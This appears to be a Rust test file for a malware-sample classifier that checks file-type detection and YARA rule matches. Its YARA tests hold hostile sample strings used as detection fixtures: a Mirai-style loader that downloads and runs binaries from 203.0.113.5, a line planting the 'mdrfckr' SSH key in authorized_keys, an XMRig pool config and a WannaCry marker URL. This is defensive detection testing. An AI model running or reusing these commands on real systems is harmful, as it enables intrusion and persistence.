//! Sample classification on real files: file types from binaries and archives made by the
//! system's own tools, YARA (built-in and folder rules) with yara-x.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use drosera_admin::samples::classify::Classifier;
use drosera_admin::samples::filetype::{detect, Category};
use std::path::Path;
use std::process::Command;

fn tool(bin: &str) -> bool {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {bin}")])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    if !found && std::env::var("DROSERA_REQUIRE_CLIENTS").as_deref() == Ok("1") {
        panic!("`{bin}` is required (DROSERA_REQUIRE_CLIENTS=1); run scripts/install-deps.sh");
    }
    if !found {
        eprintln!("skipping part: `{bin}` not installed");
    }
    found
}

fn run(cmd: &str, dir: &Path) {
    let ok = Command::new("sh").args(["-c", cmd]).current_dir(dir).status().unwrap().success();
    assert!(ok, "{cmd}");
}

#[test]
fn system_binaries_and_scripts() {
    let t = detect(&std::fs::read("/bin/true").unwrap());
    assert_eq!(t.category, Category::Executable);
    let machine = match std::env::consts::ARCH {
        "x86_64" => "ELF 64-bit LSB",
        "aarch64" => "ELF 64-bit LSB",
        _ => "ELF",
    };
    assert!(t.description.starts_with(machine), "{t}");
    let arch = match std::env::consts::ARCH {
        "x86_64" => "x86-64",
        "aarch64" => "ARM aarch64",
        "arm" => "ARM",
        _ => "",
    };
    assert!(t.description.ends_with(arch), "{t}");
    for (path, want) in [
        ("/usr/bin/gunzip", "shell script"),
        ("/usr/bin/zgrep", "shell script"),
        ("/usr/bin/pod2man", "Perl script"),
        ("/usr/bin/py3compile", "Python script"),
    ] {
        if let Ok(bytes) = std::fs::read(path) {
            assert_eq!(detect(&bytes).description, want, "{path}");
        }
    }
}

#[test]
fn archives_made_by_real_tools() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("a.txt"), "hello sample\n".repeat(100)).unwrap();
    std::fs::copy("/bin/true", d.join("true")).unwrap();
    let mut cases = vec![("a.txt", "ASCII text", Category::Text)];
    if tool("gzip") {
        run("gzip -kc true > true.gz", d);
        cases.push(("true.gz", "gzip compressed data", Category::Archive));
    }
    if tool("bzip2") {
        run("bzip2 -kc true > true.bz2", d);
        cases.push(("true.bz2", "bzip2 compressed data", Category::Archive));
    }
    if tool("xz") {
        run("xz -kc true > true.xz", d);
        cases.push(("true.xz", "xz compressed data", Category::Archive));
    }
    if tool("tar") {
        run("tar -cf t.tar a.txt true && tar --format=v7 -cf v7.tar a.txt", d);
        cases.push(("t.tar", "tar archive", Category::Archive));
        cases.push(("v7.tar", "tar archive", Category::Archive));
    }
    if tool("python3") {
        run("python3 -c \"import zipfile; z=zipfile.ZipFile('a.zip','w'); z.write('true'); z.close()\"", d);
        cases.push(("a.zip", "zip archive", Category::Archive));
    }
    for (file, want, cat) in cases {
        let t = detect(&std::fs::read(d.join(file)).unwrap());
        assert_eq!((t.description.as_str(), t.category), (want, cat), "{file}");
    }
}

/// A minimal but well-formed PE32 EXE and PE32+ DLL (DOS stub, PE header, optional header, one
/// section), as a linker lays them out.
fn pe(plus: bool, dll: bool) -> Vec<u8> {
    let mut b = vec![0u8; 0x400];
    b[..2].copy_from_slice(b"MZ");
    b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    b[0x80..0x84].copy_from_slice(b"PE\0\0");
    let machine: u16 = if plus { 0x8664 } else { 0x14c };
    b[0x84..0x86].copy_from_slice(&machine.to_le_bytes());
    b[0x86..0x88].copy_from_slice(&1u16.to_le_bytes());
    let opt_size: u16 = if plus { 240 } else { 224 };
    b[0x94..0x96].copy_from_slice(&opt_size.to_le_bytes());
    let chars: u16 = 0x0102 | if dll { 0x2000 } else { 0 };
    b[0x96..0x98].copy_from_slice(&chars.to_le_bytes());
    b[0x98..0x9a].copy_from_slice(&(if plus { 0x20bu16 } else { 0x10bu16 }).to_le_bytes());
    b[0x98 + 68..0x98 + 70].copy_from_slice(&3u16.to_le_bytes());
    let sect = 0x98 + opt_size as usize;
    b[sect..sect + 5].copy_from_slice(b".text");
    b
}

#[test]
fn pe_exe_and_dll() {
    assert_eq!(detect(&pe(false, false)).description, "PE32 executable (EXE), Intel 80386");
    assert_eq!(detect(&pe(true, true)).description, "PE32+ executable (DLL), x86-64");
    let mut cut = pe(true, true);
    cut.truncate(0x90);
    assert_eq!(detect(&cut).description, "PE executable, truncated");
}

/// Without the `yara` feature samples still get a file type; the version says so (a later
/// build with YARA rescans them).
#[cfg(not(feature = "yara"))]
#[test]
fn without_yara_types_only() {
    let c = Classifier::load(None).unwrap();
    assert!(c.rules_version().starts_with("no-yara-"));
    let r = c.classify(&std::fs::read("/bin/true").unwrap());
    assert!(r.file_type.starts_with("ELF") && r.matches.is_empty());
}

#[cfg(feature = "yara")]
mod yara {
    use super::*;
    use drosera_admin::samples::classify::ClassifyConfig;

    const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    fn names(c: &Classifier, bytes: &[u8]) -> Vec<String> {
        c.classify(bytes).matches.iter().map(|m| format!("{}/{}", m.namespace, m.rule)).collect()
    }

    #[test]
    fn builtin_rules_match_their_families_and_not_system_files() {
        let c = Classifier::load(None).unwrap();
        assert_eq!(c.rules_version().len(), 64);
        let r = c.classify(EICAR);
        assert_eq!(r.file_type, "ASCII text");
        assert_eq!(r.matches.len(), 1, "{r:?}");
        assert_eq!((r.matches[0].namespace.as_str(), r.matches[0].rule.as_str()), ("builtin", "EICAR_Test_File"));
        assert_eq!(r.matches[0].tags, vec!["test".to_string()]);

        // A Mirai-style table: strings XORed with 0x22 behind an ELF header.
        let mut mirai = std::fs::read("/bin/true").unwrap();
        for s in ["/bin/busybox MIRAI", "xmhdipc", "/dev/watchdog"] {
            let x: Vec<u8> = s.bytes().map(|c| c ^ 0x22).collect();
            mirai.extend_from_slice(&x);
            mirai.push(0x22);
        }
        assert!(names(&c, &mirai).contains(&"builtin/Mirai_Family".to_string()));

        let loader = b"cd /tmp || cd /var/run; wget http://203.0.113.5/mips; chmod 777 mips; ./mips\n\
            wget http://203.0.113.5/mpsl; chmod 777 mpsl; ./mpsl\nwget http://203.0.113.5/arm7; ./arm7\n\
            wget http://203.0.113.5/x86; chmod 777 x86; ./x86\n";
        assert_eq!(names(&c, loader), vec!["builtin/Loader_MultiArch_Shell"]);
        let miner = br#"{"pools":[{"url":"stratum+tcp://pool.example:3333"}],"donate-level":1}"#;
        assert_eq!(names(&c, miner), vec!["builtin/CoinMiner_XMRig"]);
        let key = b"echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys\n";
        assert_eq!(names(&c, key), vec!["builtin/SSH_Key_Backdoor_mdrfckr"]);
        let mut wannacry = pe(false, false);
        wannacry.extend_from_slice(b"http://www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com\0");
        assert_eq!(names(&c, &wannacry), vec!["builtin/WannaCry_Markers"]);

        for path in ["/bin/true", "/bin/sh", "/usr/bin/gunzip", "/usr/bin/pod2man"] {
            if let Ok(bytes) = std::fs::read(path) {
                assert!(c.classify(&bytes).matches.is_empty(), "false positive on {path}: {:?}", names(&c, &bytes));
            }
        }
    }

    #[test]
    fn rules_folder_adds_rules_and_changes_the_version() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("lab.yar"),
            "rule Lab_Marker : lab { strings: $a = \"drosera-lab-marker\" condition: $a }\n",
        )
        .unwrap();
        std::fs::write(dir.path().join("notes.txt"), "not a rule file {").unwrap();
        let builtin = Classifier::load(None).unwrap();
        let c = Classifier::load(Some(dir.path())).unwrap();
        assert_ne!(builtin.rules_version(), c.rules_version());
        assert_eq!(c.rules_version(), Classifier::load(Some(dir.path())).unwrap().rules_version(), "stable");
        let r = c.classify(b"xx drosera-lab-marker xx");
        assert_eq!(r.matches.len(), 1);
        assert_eq!((r.matches[0].namespace.as_str(), r.matches[0].rule.as_str()), ("lab", "Lab_Marker"));
        // Built-in rules still apply, and a rule name may repeat in another file.
        std::fs::write(dir.path().join("eicar2.yar"), "rule EICAR_Test_File { condition: false }\n").unwrap();
        let c = Classifier::load(Some(dir.path())).unwrap();
        assert_eq!(c.classify(EICAR).matches.len(), 1);
    }

    #[test]
    fn a_broken_rule_names_the_file_and_line() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("good.yar"), "rule Good { condition: true }\n").unwrap();
        std::fs::write(
            dir.path().join("broken.yar"),
            "rule Broken\n{\n  strings: $a = \"x\"\n  condition: $a and and\n}\n",
        )
        .unwrap();
        let e = Classifier::load(Some(dir.path())).unwrap_err().to_string();
        assert!(e.contains("broken.yar"), "{e}");
        assert!(e.contains("broken.yar:4"), "line 4 must be named: {e}");
        let e = Classifier::load(Some(&dir.path().join("missing"))).unwrap_err().to_string();
        assert!(e.contains("missing"), "{e}");
    }

    #[test]
    fn folder_caps_are_errors_not_cuts() {
        let dir = tempfile::tempdir().unwrap();
        for i in 0..3 {
            std::fs::write(dir.path().join(format!("r{i}.yar")), format!("rule R{i} {{ condition: false }}\n"))
                .unwrap();
        }
        let cfg = ClassifyConfig { rules_dir: Some(dir.path().to_path_buf()), max_rule_files: 2, ..Default::default() };
        let e = Classifier::from_config(&cfg).unwrap_err().to_string();
        assert!(e.contains("max_rule_files"), "{e}");
        let cfg =
            ClassifyConfig { rules_dir: Some(dir.path().to_path_buf()), max_rule_file_bytes: 10, ..Default::default() };
        let e = Classifier::from_config(&cfg).unwrap_err().to_string();
        assert!(e.contains("max_rule_file_bytes"), "{e}");
    }
}
